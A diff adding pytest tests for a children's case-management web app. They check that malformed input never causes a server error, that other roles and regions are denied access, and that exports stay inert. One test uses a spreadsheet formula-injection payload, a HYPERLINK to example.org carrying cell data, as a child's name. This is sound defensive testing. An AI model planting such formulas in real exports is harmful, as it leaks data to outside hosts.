@@ -1,0 +1,220 @@
+"""A second look at the staff pages: odd input is never a 500, other scopes see nothing, exports
+are inert."""
+
+from __future__ import annotations
+
+import io
+import re
+
+from openpyxl import load_workbook
+from sqlalchemy import Engine
+
+from tests.test_journey import to_ipr_implementation, to_need_determination
+from tests.test_pages_auth import csrf_of, sign_in
+from tests.test_pages_worklists import make_overdue
+from tests.world import World
+
+
+def test_case_forms_with_odd_dates_ids_and_long_text_are_never_a_500(world: World) -> None:
+    case_id = to_ipr_implementation(world)
+    nd = to_need_determination(world)
+    c = world.client
+    sign_in(c, "curator")
+    page = c.get(f"/cases/{case_id}")
+    token = csrf_of(page.text)
+    version = re.search(r'name="version" value="(\d+)"', page.text)
+    v = version.group(1) if version else "1"
+    bad: list[object] = []
+
+    def post(url: str, data: dict[str, str]) -> None:
+        r = c.post(url, data={"csrf": token, **data}, follow_redirects=False)
+        assert r.status_code < 500, (url, data)
+
+    for day in ("0001-01-01", "9999-12-31", "0000-01-01", "99999-01-01", "2026-02-30"):
+        post(
+            f"/cases/{case_id}/contact-attempts",
+            {"contact-date": day, "contact-time": "00:00", "contact-result": "yes"},
+        )
+        post(
+            f"/cases/{case_id}/contact-attempts",
+            {"contact-date": day, "contact-time": "23:59", "contact-result": "no"},
+        )
+        post(
+            f"/cases/{case_id}/sessions",
+            {"session-service": "code:x", "session-date": day, "session-time": "00:00"},
+        )
+        post(
+            f"/cases/{case_id}/sessions",
+            {"session-service": "planned:99999999999", "session-date": day, "session-time": "23:59"},
+        )
+        post(
+            f"/cases/{nd}/events/determine_need",
+            {"version": v, "determine_need-outcome": "ipr", "determine_need-concluded_on": day},
+        )
+        post(f"/cases/{case_id}/events/suspend", {"version": v, "suspend-reason": "x" * 100000})
+    post(f"/cases/{case_id}/sessions/99999999999", {"attendance-99999999999-status": "held"})
+    post(f"/cases/{case_id}/sessions/1", {"attendance-1-status": "zzz"})
+    post(f"/cases/{case_id}/curator", {"version": "99999999999", "curator-curator_id": "99999999999"})
+    post(f"/cases/{case_id}/curator", {"version": v, "curator-curator_id": "999999999"})
+    post(f"/cases/{case_id}/events/zzz", {"version": v})
+    post(f"/cases/{case_id}/events/accept", {"version": v, "accept-curator_id": "x"})
+    post(
+        f"/cases/{case_id}/contact-attempts",
+        {
+            "contact-date": "2026-11-30",
+            "contact-time": "25:00",
+            "contact-result": "yes",
+            "contact-channel": "zzz",
+        },
+    )
+    post(
+        f"/cases/{case_id}/contact-attempts",
+        {
+            "contact-date": "2026-11-30",
+            "contact-time": "10:00",
+            "contact-result": "yes",
+            "contact-note": "x" * 100000,
+        },
+    )
+    post(
+        f"/cases/{case_id}/sessions",
+        {
+            "session-service": "code:" + "x" * 10000,
+            "session-date": "2026-12-01",
+            "session-time": "10:00",
+            "session-minutes": "0",
+            "session-form": "zzz",
+        },
+    )
+    for url in (
+        "/search?q=%00",
+        "/search?page=99999999999",
+        "/search?q=a&page=999999999",
+        "/search?snils=00000000000",
+        "/referrals?page=0",
+        "/referrals/abc",
+        "/referrals/99999999999",
+        "/cases/99999999999",
+        "/cases/-1",
+        f"/cases/{case_id}?done=" + "x" * 50,
+        "/today?x=1",
+    ):
+        r = c.get(url)
+        if r.status_code >= 500:
+            bad.append((url, None, r.status_code, r.text[-300:]))
+    assert not bad, bad
+
+
+def test_admin_pages_with_superscript_digits_huge_ids_and_odd_csv_are_never_a_500(world: World) -> None:
+    c = world.client
+    sign_in(c, "admin")
+    token = csrf_of(c.get("/admin/users/new").text)
+    bad: list[object] = []
+    for url in (
+        "/admin/users?page=%C2%B2",
+        "/admin/users?page=99999999999",
+        "/admin/users?org=%C2%B2",
+        "/admin/organisations/99999999999",
+        "/admin/users/99999999999",
+        "/admin/users/99999999999/edit",
+        "/dashboard?org=99999999999",
+        "/search?page=%C2%B2",
+    ):
+        r = c.get(url)
+        if r.status_code >= 500:
+            bad.append((url, r.status_code))
+    for org in ("²", "99999999999", "0"):
+        r = c.post(
+            "/admin/users/new",
+            data={
+                "csrf": token,
+                "login": "zz" + str(len(org)),
+                "full_name": "Иванов Иван",
+                "email": "a@b.ru",
+                "role": "curator",
+                "organisation_id": org,
+            },
+        )
+        if r.status_code >= 500:
+            bad.append(("new user", org, r.status_code))
+    r = c.post(
+        "/admin/users/new",
+        data={
+            "csrf": token,
+            "login": "zz",
+            "full_name": "Иванов Иван",
+            "email": "a@b.ru",
+            "role": "zzz",
+            "organisation_id": "1",
+        },
+    )
+    if r.status_code >= 500:
+        bad.append(("role", r.status_code))
+    for data in (b"\xff\xfe\x00a", "name;kind\n\u0000x;y".encode(), "имя".encode("cp1251"), b"", b"a" * 10):
+        r = c.post(
+            "/admin/organisations/import", data={"csrf": token}, files={"file": ("a.csv", data, "text/csv")}
+        )
+        if r.status_code >= 500:
+            bad.append(("import", data[:10], r.status_code))
+    assert not bad, bad
+
+
+def test_other_providers_regions_and_roles_get_no_case_referral_or_admin_page(world: World) -> None:
+    case_id = to_ipr_implementation(world)
+    referral = world.refer()
+    rid = referral["id"]
+    c = world.client
+    leaks = []
+    for who in (
+        "curator2",
+        "coordinator2",
+        "b_curator",
+        "b_coordinator",
+        "b_head",
+        "b_rrmc",
+        "analyst",
+        "b_referrer",
+        "b_admin",
+    ):
+        c.cookies.clear()
+        sign_in(c, who)
+        home = c.get("/", follow_redirects=True)
+        token = csrf_of(home.text) if 'name="csrf"' in home.text else ""
+        for url in (
+            f"/cases/{case_id}",
+            f"/referrals/{rid}",
+            f"/referrals/{rid}/feedback.pdf",
+            f"/admin/users/{world.user_ids['curator']}",
+            f"/admin/organisations/{world.provider_id}",
+            f"/admin/users/{world.user_ids['curator']}/edit",
+        ):
+            r = c.get(url)
+            if r.status_code < 400:
+                leaks.append((who, url, r.status_code))
+        for url, data in (
+            (
+                f"/cases/{case_id}/contact-attempts",
+                {"contact-date": "2026-11-30", "contact-time": "10:00", "contact-result": "yes"},
+            ),
+            (f"/cases/{case_id}/events/suspend", {"version": "99", "suspend-reason": "x"}),
+            (f"/admin/users/{world.user_ids['curator']}/disable", {}),
+            (f"/admin/users/{world.user_ids['curator']}/password", {}),
+            (f"/admin/organisations/{world.provider_id}", {"name": "X"}),
+        ):
+            r = c.post(url, data={"csrf": token, **data}, follow_redirects=False)
+            if r.status_code < 400:
+                leaks.append((who, url, r.status_code))
+    assert not leaks, leaks
+
+
+def test_a_child_name_that_looks_like_a_formula_is_text_in_the_xlsx(world: World, engine: Engine) -> None:
+    formula = '=HYPERLINK("http://example.org/?"&A1,"Открыть")'
+    case_id = int(world.refer(child={"last_name": formula})["case_id"])
+    world.advance(case_id, "accept", {"curator_id": world.user_ids["curator"]}, who="coordinator")
+    make_overdue(engine, case_id)
+    sign_in(world.client, "head")
+    export = world.client.get("/dashboard/cases.xlsx?status=overdue")
+    sheet = load_workbook(io.BytesIO(export.content)).active
+    assert sheet is not None
+    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == case_id)
+    assert row[1].data_type == "s" and str(row[1].value).startswith(formula)
